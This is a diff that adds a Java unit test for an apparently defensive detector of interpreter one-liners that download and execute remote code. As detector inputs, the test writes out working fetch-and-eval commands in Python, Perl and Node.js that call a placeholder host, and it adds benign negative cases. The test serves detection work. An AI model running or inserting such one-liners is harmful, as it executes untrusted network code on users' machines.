@@ -360,4 +360,21 @@ class IndicatorsTest {
             assertThat(Indicators.commandIn(command, script)).as(command).isFalse();
         }
     }
+
+    @Test
+    void anInterpreterOneLinerThatFetchesAndEvaluatesRunsCodeFromTheNetwork() {
+        assertThat(Indicators.fetchesAndEvaluates("import urllib.request as u; exec(u.urlopen('http://h/x').read())",
+                List.of("python3", "-c", "import urllib.request as u; exec(u.urlopen('http://h/x').read())"))).isTrue();
+        assertThat(Indicators.fetchesAndEvaluates("eval HTTP::Tiny->new->get('http://h/x')->{content}",
+                List.of("perl", "-MHTTP::Tiny", "-e", "eval HTTP::Tiny->new->get('http://h/x')->{content}"))).isTrue();
+        assertThat(Indicators.fetchesAndEvaluates("eval LWP::Simple::get('http://h/x')",
+                List.of("perl", "-MLWP::Simple", "-e", "eval LWP::Simple::get('http://h/x')"))).isTrue();
+        assertThat(Indicators.fetchesAndEvaluates("fetch('http://h/x').then(r => r.text()).then(eval)",
+                List.of("node", "-e", "fetch('http://h/x').then(r => r.text()).then(eval)"))).isTrue();
+        assertThat(Indicators.fetchesAndEvaluates("import urllib.request as u; print(u.urlopen('http://h/x').read())",
+                List.of("python3", "-c", "import urllib.request as u; print(u.urlopen('http://h/x').read())"))).as("data").isFalse();
+        assertThat(Indicators.fetchesAndEvaluates("exec(open('setup.py').read())",
+                List.of("python3", "-c", "exec(open('setup.py').read())"))).as("a local file run").isFalse();
+        assertThat(Indicators.fetchesAndEvaluates(null, List.of("python3", "x.py"))).isFalse();
+    }
 }
